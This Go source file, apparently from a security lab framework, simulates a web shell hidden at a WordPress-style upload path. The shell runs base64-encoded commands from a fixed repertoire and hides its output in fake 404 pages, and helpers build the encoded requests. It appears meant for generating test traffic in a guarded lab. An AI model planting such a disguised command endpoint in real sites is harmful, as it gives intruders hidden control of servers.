package c2

import (
	"context"
	"encoding/base64"
	"fmt"
	"maps"
	"math/rand/v2"
	"net/http"
	"slices"
	"strings"
	"sync/atomic"

	"tyto/lab"
	"tyto/lab/webapp"
)

// WebshellPath is where a web shell is among a site's pages.
const WebshellPath = "/wp-content/uploads/2026/thumb.php"

// Webshell is a program of the lab: a site with pages, of which one runs
// commands of the repertoire that are posted to it, in an HTML page or bare. Its
// arguments are those of webapp.Serve, the shape "html" or "bare", and a seed.
func Webshell(ctx context.Context, args []string) error {
	if err := inLab(); err != nil {
		return err
	}
	var seed uint64
	if _, err := fmt.Sscan(args[3], &seed); err != nil {
		return err
	}
	var pages atomic.Uint64
	mux := http.NewServeMux()
	mux.HandleFunc("GET /", func(w http.ResponseWriter, q *http.Request) {
		rng := rand.New(rand.NewPCG(seed, pages.Add(1)))
		fmt.Fprintf(w, "<!doctype html><title>%s</title><p>%s</p>", q.URL.Path, filler(800+rng.IntN(12000), rng))
	})
	mux.HandleFunc("POST "+WebshellPath, func(w http.ResponseWriter, q *http.Request) {
		name, err := base64.StdEncoding.DecodeString(q.FormValue("x"))
		if err == nil {
			var out []byte
			if out, err = perform(q.Context(), string(name)); err == nil && args[2] == "html" {
				fmt.Fprintf(w, "<!doctype html><title>404</title><form method=post><input name=x></form><pre>%s</pre>", strings.ReplaceAll(string(out), "<", "&lt;"))
			} else if err == nil {
				w.Write(out)
			}
		}
		if err != nil {
			http.Error(w, err.Error(), http.StatusNotFound)
		}
	})
	return webapp.Serve(ctx, args, mux)
}

// WebshellCommand draws a command of the repertoire, and tells what its output
// has in any case.
func WebshellCommand(rng *rand.Rand) (name, want string) {
	names := slices.Sorted(maps.Keys(repertoire))
	name = names[rng.IntN(len(names))]
	return name, repertoire[name].want
}

// WebshellVariants are webapp.Variants with what the commands need.
func WebshellVariants(clients ...string) []lab.Variant {
	all := webapp.Variants(clients...)
	for i := range all {
		all[i].Needs = append(all[i].Needs, "ss", "ps", "ip")
	}
	return all
}

// WebshellForm is the body that makes a web shell run a command.
func WebshellForm(name string) string {
	return "x=" + strings.NewReplacer("+", "%2B", "=", "%3D", "/", "%2F").Replace(base64.StdEncoding.EncodeToString([]byte(name)))
}
